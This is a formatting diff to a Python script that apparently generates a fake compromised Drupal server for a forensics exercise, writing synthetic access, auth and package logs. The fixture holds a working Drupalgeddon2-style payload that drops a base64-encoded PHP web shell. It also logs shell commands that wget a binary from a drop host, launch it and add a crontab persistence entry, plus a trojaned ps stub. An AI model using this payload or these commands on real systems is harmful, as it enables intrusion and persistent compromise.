@@ -19,14 +19,26 @@ UA_SHELL = "curl/7.58.0"
 BROWSERS = {
     "198.51.100.10": "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:75.0) Gecko/20100101 Firefox/75.0",
     "198.51.100.11": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
-                     "Version/13.1 Safari/605.1.15",
+    "Version/13.1 Safari/605.1.15",
     "66.249.66.1": "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
 }
-PAGES = ["/", "/node/1", "/node/2", "/about", "/contact", "/misc/drupal.js?q5h8v2", "/themes/bartik/css/style.css",
-         "/sites/default/files/logo.png", "/node/3", "/user/login"]
+PAGES = [
+    "/",
+    "/node/1",
+    "/node/2",
+    "/about",
+    "/contact",
+    "/misc/drupal.js?q5h8v2",
+    "/themes/bartik/css/style.css",
+    "/sites/default/files/logo.png",
+    "/node/3",
+    "/user/login",
+]
 SHELL_URL = "/sites/default/files/.styles.php"
-PAYLOAD = ("/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D="
-           "echo+PD9waHAgQHN5c3RlbSgkX1JFUVVFU1RbImMiXSk7Pz4K+|+base64+-d+>+sites/default/files/.styles.php")
+PAYLOAD = (
+    "/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D="
+    "echo+PD9waHAgQHN5c3RlbSgkX1JFUVVFU1RbImMiXSk7Pz4K+|+base64+-d+>+sites/default/files/.styles.php"
+)
 
 PS_ORIGINAL = b"\x7fELF\x02\x01\x01\x00" + b"procps-ng ps 3.3.12 (original build)\x00" * 40
 PS_TROJAN = b"""#!/bin/sh
@@ -57,7 +69,9 @@ def _clf(t: datetime) -> str:
     return t.strftime("%d/%b/%Y:%H:%M:%S +0000")
 
 
-def _line(t: datetime, ip: str, method: str, url: str, status: int, size: int, ua: str, ref: str = "-") -> str:
+def _line(
+    t: datetime, ip: str, method: str, url: str, status: int, size: int, ua: str, ref: str = "-"
+) -> str:
     return f'{ip} - - [{_clf(t)}] "{method} {url} HTTP/1.1" {status} {size} "{ref}" "{ua}"'
 
 
@@ -76,11 +90,28 @@ def access_log() -> list[str]:
         (7, ATTACKER, "POST", PAYLOAD, 200, 16114, UA_EXPLOIT),
         (8, ATTACKER, "POST", "/?q=file/ajax/name/%23value/form-rAnD0mBuIlDiD", 200, 7530, UA_EXPLOIT),
         (22, ATTACKER, "GET", SHELL_URL + "?c=id", 200, 54, UA_SHELL),
-        (63, ATTACKER, "GET", SHELL_URL + "?c=cd+/tmp;mkdir+-p+.ICE-unix/.s;wget+-q+http://" + DROP +
-         "/b.pl+-O+.ICE-unix/.s/httpd;chmod+755+.ICE-unix/.s/httpd", 200, 0, UA_SHELL),
+        (
+            63,
+            ATTACKER,
+            "GET",
+            SHELL_URL
+            + "?c=cd+/tmp;mkdir+-p+.ICE-unix/.s;wget+-q+http://"
+            + DROP
+            + "/b.pl+-O+.ICE-unix/.s/httpd;chmod+755+.ICE-unix/.s/httpd",
+            200,
+            0,
+            UA_SHELL,
+        ),
         (70, ATTACKER, "GET", SHELL_URL + "?c=nohup+/tmp/.ICE-unix/.s/httpd+%26", 200, 0, UA_SHELL),
-        (101, ATTACKER, "GET", SHELL_URL + "?c=(crontab+-l;echo+%27@reboot+/tmp/.ICE-unix/.s/httpd%27)|crontab+-",
-         200, 0, UA_SHELL),
+        (
+            101,
+            ATTACKER,
+            "GET",
+            SHELL_URL + "?c=(crontab+-l;echo+%27@reboot+/tmp/.ICE-unix/.s/httpd%27)|crontab+-",
+            200,
+            0,
+            UA_SHELL,
+        ),
         (3600 * 5, ATTACKER, "GET", SHELL_URL + "?c=uname+-a", 200, 98, UA_SHELL),
     ]
     for off, ip, method, url, status, size, ua in attack:
@@ -93,8 +124,10 @@ def access_log() -> list[str]:
 def auth_log() -> list[str]:
     out = []
     for day in range(10, 17):
-        out.append(f"Apr {day} 06:25:01 shop01 CRON[{800 + day}]: pam_unix(cron:session): session opened for user "
-                   "root by (uid=0)")
+        out.append(
+            f"Apr {day} 06:25:01 shop01 CRON[{800 + day}]: pam_unix(cron:session): session opened for user "
+            "root by (uid=0)"
+        )
     out += [
         "Apr 13 09:02:11 shop01 sshd[1201]: Accepted publickey for alice from 198.51.100.10 port 50122 ssh2: "
         "ED25519 SHA256:Zz9aYy8bXx7cWw6dVv5eUu4fTt3gSs2hRr1iQq0jPp0",
@@ -110,17 +143,24 @@ def dpkg(root: Path) -> None:
     info = root / "var/lib/dpkg/info"
     info.mkdir(parents=True, exist_ok=True)
     status = []
-    for name, version, files in (("procps", "2:3.3.12-3+deb9u1", {"bin/ps": PS_ORIGINAL}),
-                                 ("coreutils", "8.26-3", {"bin/ls": LS})):
-        status.append(f"Package: {name}\nStatus: install ok installed\nPriority: required\nArchitecture: amd64\n"
-                      f"Version: {version}\nDescription: {name}\n")
-        (info / f"{name}.md5sums").write_text("".join(f"{hashlib.md5(c).hexdigest()}  {p}\n" for p, c in files.items()))
+    for name, version, files in (
+        ("procps", "2:3.3.12-3+deb9u1", {"bin/ps": PS_ORIGINAL}),
+        ("coreutils", "8.26-3", {"bin/ls": LS}),
+    ):
+        status.append(
+            f"Package: {name}\nStatus: install ok installed\nPriority: required\nArchitecture: amd64\n"
+            f"Version: {version}\nDescription: {name}\n"
+        )
+        (info / f"{name}.md5sums").write_text(
+            "".join(f"{hashlib.md5(c).hexdigest()}  {p}\n" for p, c in files.items())
+        )
         (info / f"{name}.list").write_text("".join(f"/{p}\n" for p in files))
     (root / "var/lib/dpkg/status").write_text("\n".join(status))
     (root / "var/log/dpkg.log").write_text(
         "2018-03-29 07:12:40 startup archives unpack\n"
         "2018-03-29 07:12:41 upgrade procps:amd64 2:3.3.12-3 2:3.3.12-3+deb9u1\n"
-        "2018-03-29 07:12:44 status installed procps:amd64 2:3.3.12-3+deb9u1\n")
+        "2018-03-29 07:12:44 status installed procps:amd64 2:3.3.12-3+deb9u1\n"
+    )
 
 
 def generate(root: Path) -> None:
